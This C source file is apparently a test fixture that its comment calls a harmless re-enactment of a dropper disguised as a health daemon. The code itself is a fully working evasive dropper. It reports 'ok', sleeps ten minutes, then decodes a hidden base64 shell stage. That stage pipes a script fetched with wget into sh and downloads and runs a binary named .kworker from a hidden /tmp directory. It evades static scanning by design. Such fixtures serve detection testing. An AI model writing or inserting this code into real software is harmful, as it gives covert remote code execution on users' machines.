/* Stand-in for a delayed, obfuscated dropper (harmless re-enactment), dressed as a health agent.
 *
 * It reports healthy, waits ten minutes (a short scan sees nothing), then decodes its next stage
 * from base64 kept in its data (no URL or command in clear, no decoder program in the image, so
 * static scanning finds nothing) and runs it with /bin/sh. The stage fetches a script into sh and
 * a binary into a hidden directory, then runs the binary; the simulated internet serves a script
 * and an ELF that only print a marker.
 */
#include <stdio.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static const char STAGE[] =
    "bWtkaXIgLXAgL3RtcC8uSUNFLXVuaXg7IHdnZXQgLXEgLU8tIGh0dHA6Ly8yMDMuMC4xMTMuMjMvYWdlbnQvY2ZnLnNoIHwgc2g7IHdnZXQgLXEgLU8gL3RtcC8uSUNFLXVuaXgvLmt3b3JrZXIgaHR0cDovLzIwMy4wLjExMy4yMy9hZ2VudC9rd29ya2VyICYmIGNobW9kIDc1NSAvdG1wLy5JQ0UtdW5peC8ua3dvcmtlciAmJiAvdG1wLy5JQ0UtdW5peC8ua3dvcmtlcg==";

static int sextet(char c) {
    if (c >= 'A' && c <= 'Z') return c - 'A';
    if (c >= 'a' && c <= 'z') return c - 'a' + 26;
    if (c >= '0' && c <= '9') return c - '0' + 52;
    if (c == '+') return 62;
    if (c == '/') return 63;
    return -1;
}

static size_t decode(const char *in, char *out, size_t cap) {
    size_t n = 0;
    unsigned bits = 0, acc = 0;
    for (; *in && n + 1 < cap; in++) {
        int v = sextet(*in);
        if (v < 0) continue;
        acc = (acc << 6) | (unsigned)v;
        bits += 6;
        if (bits >= 8) {
            bits -= 8;
            out[n++] = (char)((acc >> bits) & 0xff);
        }
    }
    out[n] = 0;
    return n;
}

int main(void) {
    char stage[sizeof STAGE];
    struct timespec warmup = {600, 0};
    puts("healthd: ok");
    fflush(stdout);
    nanosleep(&warmup, NULL);
    decode(STAGE, stage, sizeof stage);
    execl("/bin/sh", "sh", "-c", stage, (char *)NULL);
    return 1;
}
